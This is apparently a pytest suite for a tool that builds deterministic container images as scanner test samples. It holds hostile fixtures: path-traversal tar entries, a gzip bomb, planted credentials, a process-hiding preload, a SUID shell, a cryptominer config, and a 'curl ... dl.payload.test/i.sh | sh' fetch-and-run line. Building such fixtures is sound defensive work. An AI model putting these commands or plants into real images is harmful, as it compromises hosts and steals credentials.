"""The image factory: deterministic, valid for skopeo, faithful to the recipe."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import tarfile
from pathlib import Path

import pytest

from detonate.factory import (
    BlobLayer,
    FileSpec,
    ImageSpec,
    LayerSpec,
    RawEntry,
    RawLayer,
    busybox_layer,
    gzip_deterministic,
    load_recipe,
    oci_layout,
    write_docker_archive,
    write_oci_archive,
    write_oci_layout,
)
from detonate.factory.__main__ import main as factory_main

SAMPLES = Path(__file__).resolve().parents[2] / "samples"


def _skopeo_json(*args: str) -> dict:
    out = subprocess.run(["skopeo", *args], check=True, capture_output=True, timeout=60).stdout
    return json.loads(out)


def _layer_members(layout: Path, digest: str, index: int) -> dict[str, tarfile.TarInfo]:
    manifest = json.loads((layout / "blobs/sha256" / digest.split(":")[1]).read_bytes())
    blob = layout / "blobs/sha256" / manifest["layers"][index]["digest"].split(":")[1]
    with tarfile.open(blob, "r:gz") as tar:
        return {member.name: member for member in tar.getmembers()}


def _small_spec(*files: FileSpec) -> ImageSpec:
    return ImageSpec("small", layers=(busybox_layer(), LayerSpec(files, created_by="COPY x /")))


def test_same_recipe_gives_the_same_bytes(tmp_path: Path) -> None:
    spec = load_recipe(SAMPLES / "planted-static")
    first = write_oci_archive(spec, tmp_path / "a.tar")
    second = write_oci_archive(load_recipe(SAMPLES / "planted-static"), tmp_path / "b.tar")
    assert first == second
    assert (tmp_path / "a.tar").read_bytes() == (tmp_path / "b.tar").read_bytes()
    assert write_oci_layout(spec, tmp_path / "layout") == first


def test_skopeo_reads_the_layout_and_archive(tmp_path: Path) -> None:
    spec = load_recipe(SAMPLES / "benign-web")
    digest = write_oci_layout(spec, tmp_path / "bw.oci")
    write_oci_archive(spec, tmp_path / "bw.tar")
    inspected = _skopeo_json("inspect", f"oci:{tmp_path / 'bw.oci'}:latest")
    assert inspected["Digest"] == digest
    assert len(inspected["Layers"]) == 2
    assert _skopeo_json("inspect", f"oci-archive:{tmp_path / 'bw.tar'}")["Digest"] == digest
    config = _skopeo_json("inspect", "--config", "--raw", f"oci:{tmp_path / 'bw.oci'}:latest")
    assert config["config"]["User"] == "33:33"
    assert config["config"]["ExposedPorts"] == {"8080/tcp": {}}
    assert config["config"]["Healthcheck"]["Test"][0] == "CMD"


def test_docker_archive_is_docker_save_format(tmp_path: Path) -> None:
    spec = load_recipe(SAMPLES / "benign-web")
    image_id = write_docker_archive(spec, tmp_path / "bw.docker.tar")
    with tarfile.open(tmp_path / "bw.docker.tar") as tar:
        manifest = json.loads(tar.extractfile("manifest.json").read())  # type: ignore[union-attr]
    assert manifest[0]["RepoTags"] == ["benign-web:latest"]
    assert manifest[0]["Config"] == image_id.split(":")[1] + ".json"
    inspected = _skopeo_json("inspect", f"docker-archive:{tmp_path / 'bw.docker.tar'}")
    assert len(inspected["Layers"]) == 2


def test_base_layer_has_busybox_applets_and_a_minimal_etc(tmp_path: Path) -> None:
    spec = _small_spec(FileSpec("/x", content=b"x"))
    digest = write_oci_layout(spec, tmp_path / "s.oci")
    base = _layer_members(tmp_path / "s.oci", digest, 0)
    assert base["bin/busybox"].mode == 0o755 and base["bin/busybox"].size > 100_000
    assert base["bin/sh"].issym() and base["bin/sh"].linkname == "/bin/busybox"
    assert base["usr/bin/wget"].linkname == "/bin/busybox"
    assert base["tmp"].mode == 0o1777
    assert base["root"].mode == 0o700
    for directory in ("var/log", "etc/ssl/certs"):
        assert base[directory].isdir()
    assert b"root:x:0:0" in busybox_layer().files[1].data()


def test_parent_directories_keep_the_modes_of_lower_layers(tmp_path: Path) -> None:
    digest = write_oci_layout(_small_spec(FileSpec("/tmp/a/b", content=b"b")), tmp_path / "s.oci")
    upper = _layer_members(tmp_path / "s.oci", digest, 1)
    assert upper["tmp"].mode == 0o1777  # not reset to 0755 by the upper layer
    assert upper["tmp/a"].mode == 0o755
    assert list(upper) == sorted(upper)


def test_file_types_modes_and_owners(tmp_path: Path) -> None:
    spec = _small_spec(
        FileSpec("/opt/run", content=b"#!/bin/sh\n", mode=0o4755, uid=1000, gid=1000),
        FileSpec("/opt/alias", type="symlink", link_target="run"),
        FileSpec("/opt/hard", type="hardlink", link_target="/opt/run"),
        FileSpec("/opt/empty", type="dir", mode=0o700),
    )
    digest = write_oci_layout(spec, tmp_path / "s.oci")
    members = _layer_members(tmp_path / "s.oci", digest, 1)
    assert members["opt/run"].mode == 0o4755 and members["opt/run"].uid == 1000
    assert members["opt/alias"].issym() and members["opt/alias"].linkname == "run"
    assert members["opt/hard"].islnk() and members["opt/hard"].linkname == "opt/run"
    assert members["opt/empty"].isdir() and members["opt/empty"].mode == 0o700


def test_raw_layers_ship_hostile_entries_verbatim(tmp_path: Path) -> None:
    escape = tarfile.TarInfo("../../etc/evil")
    absolute = tarfile.TarInfo("/etc/abs")
    device = tarfile.TarInfo("dev/kmsg")
    device.type, device.devmajor, device.devminor = tarfile.CHRTYPE, 1, 11
    spec = ImageSpec(
        "hostile",
        layers=(RawLayer((RawEntry(escape, b"x"), RawEntry(absolute, b"y"), RawEntry(device))),),
    )
    digest = write_oci_layout(spec, tmp_path / "h.oci")
    members = _layer_members(tmp_path / "h.oci", digest, 0)
    assert list(members) == ["../../etc/evil", "/etc/abs", "dev/kmsg"]
    assert members["dev/kmsg"].ischr()


def test_blob_layers_are_stored_byte_for_byte(tmp_path: Path) -> None:
    bomb = gzip_deterministic(b"\0" * 1_000_000)
    spec = ImageSpec("bomb", layers=(BlobLayer(bomb, uncompressed=b"\0" * 1_000_000),))
    layout = oci_layout(spec)
    manifest = json.loads(layout.files[f"blobs/sha256/{layout.digest.split(':')[1]}"])
    stored = layout.files["blobs/sha256/" + manifest["layers"][0]["digest"].split(":")[1]]
    assert stored == bomb and len(stored) < 5_000


def test_multi_platform_index_shares_layers(tmp_path: Path) -> None:
    spec = load_recipe(SAMPLES / "benign-web")
    write_oci_layout(spec, tmp_path / "m.oci", ("linux/amd64", "linux/arm64/v8"))
    index = _skopeo_json("inspect", "--raw", f"oci:{tmp_path / 'm.oci'}:latest")
    platforms = [entry["platform"] for entry in index["manifests"]]
    assert platforms == [
        {"architecture": "amd64", "os": "linux"},
        {"architecture": "arm64", "os": "linux", "variant": "v8"},
    ]
    override = ["--override-arch", "arm64", "--override-variant", "v8"]
    arm = subprocess.run(
        ["skopeo", *override, "inspect", f"oci:{tmp_path / 'm.oci'}:latest"],
        check=True,
        capture_output=True,
        timeout=60,
    )
    amd = _skopeo_json("inspect", f"oci:{tmp_path / 'm.oci'}:latest")
    assert json.loads(arm.stdout)["Architecture"] == "arm64"
    assert json.loads(arm.stdout)["Layers"] == amd["Layers"]


def test_planted_static_plants_what_a_scanner_must_flag(tmp_path: Path) -> None:
    spec = load_recipe(SAMPLES / "planted-static")
    digest = write_oci_layout(spec, tmp_path / "p.oci")
    members = _layer_members(tmp_path / "p.oci", digest, 1)
    for path in (
        "root/.ssh/id_rsa",
        "root/.aws/credentials",
        "etc/cron.d/update",
        "etc/ld.so.preload",
        "usr/local/lib/libprocesshider.so",
    ):
        assert members[path].isreg(), path
    assert members["usr/local/bin/.suid-sh"].mode == 0o4755
    assert members["usr/local/bin/xmrig"].mode & 0o111
    assert members["tmp/.x/kdevtmpfsi"].mode & 0o111
    xmrig = (SAMPLES / "planted-static/files/xmrig").read_text()
    assert "stratum+tcp://pool.minexmr.test:4444" in xmrig
    wallet = re.search(r'WALLET="(4[0-9A-Za-z]+)"', xmrig)
    assert wallet and len(wallet.group(1)) == 95
    history = [step for layer in spec.layers for step in [getattr(layer, "created_by", "")]]
    history += list(spec.history)
    assert "RUN curl -fsSL http://dl.payload.test/i.sh | sh" in history
    assert "RUN echo ZWNobyBoaQ== | base64 -d | sh" in history


@pytest.mark.parametrize("sample", ["planted-static", "benign-web"])
def test_samples_name_only_reserved_domains_and_addresses(sample: str) -> None:
    text = "\n".join(p.read_text() for p in (SAMPLES / sample).rglob("*") if p.is_file())
    for address in re.findall(r"\b\d{1,3}(?:\.\d{1,3}){3}\b", text):
        assert address.startswith(("192.0.2.", "198.51.100.", "203.0.113.", "127.")), address
    for host in re.findall(r"https?://([A-Za-z0-9.-]+)|tcp://([A-Za-z0-9.-]+)", text):
        name = host[0] or host[1]
        assert name.endswith((".test", ".invalid")) or name[0].isdigit(), name


def test_cli_build_all_skips_fresh_samples(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    samples = tmp_path / "samples"
    (samples / "tiny").mkdir(parents=True)
    recipe = samples / "tiny/image.yaml"
    recipe.write_text("name: tiny\nbase: scratch\nlayers: [{files: [{path: /a, content: a}]}]\n")
    assert factory_main(["build-all", str(samples), "--out", str(tmp_path / "out")]) == 0
    assert "(built)" in capsys.readouterr().out
    assert (tmp_path / "out/tiny.oci/index.json").is_file()
    assert (tmp_path / "out/tiny.oci.tar").is_file()
    assert factory_main(["build-all", str(samples), "--out", str(tmp_path / "out")]) == 0
    assert "(up to date)" in capsys.readouterr().out
    recipe.write_text(recipe.read_text().replace("content: a", "content: b"))
    os.utime(recipe, (9_999_999_999, 9_999_999_999))
    assert factory_main(["build-all", str(samples), "--out", str(tmp_path / "out")]) == 0
    assert "(built)" in capsys.readouterr().out


def test_cli_reports_a_broken_recipe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "bad").mkdir()
    (tmp_path / "bad/image.yaml").write_text("just: [a, list]\n")
    assert factory_main(["build", str(tmp_path / "bad"), "--out", str(tmp_path / "o")]) == 2
    assert "name" in capsys.readouterr().err


def test_uncompressed_raw_layer_is_plain_tar() -> None:
    info = tarfile.TarInfo("a")
    spec = ImageSpec("plain", layers=(RawLayer((RawEntry(info, b"a"),), compression="none"),))
    layout = oci_layout(spec)
    manifest = json.loads(layout.files[f"blobs/sha256/{layout.digest.split(':')[1]}"])
    layer = manifest["layers"][0]
    assert layer["mediaType"] == "application/vnd.oci.image.layer.v1.tar"
    blob = layout.files["blobs/sha256/" + layer["digest"].split(":")[1]]
    with tarfile.open(fileobj=io.BytesIO(blob)) as tar:
        assert tar.getnames() == ["a"]
